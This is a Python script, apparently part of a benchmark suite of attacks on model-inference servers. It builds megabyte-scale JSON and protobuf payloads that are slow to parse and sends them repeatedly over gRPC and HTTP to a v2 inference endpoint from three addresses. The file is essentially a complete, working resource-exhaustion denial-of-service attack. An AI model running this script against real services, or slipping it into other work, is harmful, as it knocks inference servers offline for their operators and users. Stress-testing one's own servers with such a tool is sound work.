"""Messages of megabytes that are slow to parse, over gRPC and as JSON."""

import contextlib
import http.client

from benchmarks.attacks.attacker import Aim, Http2, keep_trying, main, message, web

LARGE = 15 << 20


def bodies(aim: Aim) -> list[str]:
    """JSON of many parts, of deep ones, and of numbers that are all there is to it."""
    head = f'{{"inputs":[{{"name":"input","datatype":"UINT8","shape":[{aim.shape[0]}],"data":'
    return [
        head + "[" + "1," * (LARGE // 2) + "1]}]}",
        '{"inputs":[' + "{}," * (LARGE // 3) + "{}]}",
        '{"inputs":[],"parameters":{' + '"a":[],' * (LARGE // 7) + '"b":1}}',
        head + '["' + "\\u0041" * (LARGE // 6) + '"]}]}',
    ]


def run(aim: Aim) -> None:
    """Send one after the other of each, from three addresses."""
    messages = [part * (LARGE // len(part)) for part in (b"\x2a\x00", b"\x32\x00", b"\x22\x00")]
    texts = [each.encode() for each in bodies(aim)]

    def attack(count: int) -> None:
        one = Http2(aim, count % 3)
        try:
            one.data(one.begin("ModelInfer"), message(messages[count % len(messages)]), end=True)
        finally:
            one.close()
        path = f"/v2/models/{aim.model}/infer"
        with contextlib.suppress(http.client.HTTPException):
            client = web(aim, count % 3)
            client.request("POST", path, texts[count % len(texts)], dict(aim.headers))
            client.getresponse().read()
            client.close()

    keep_trying(aim, attack)


if __name__ == "__main__":
    main(run, __doc__)
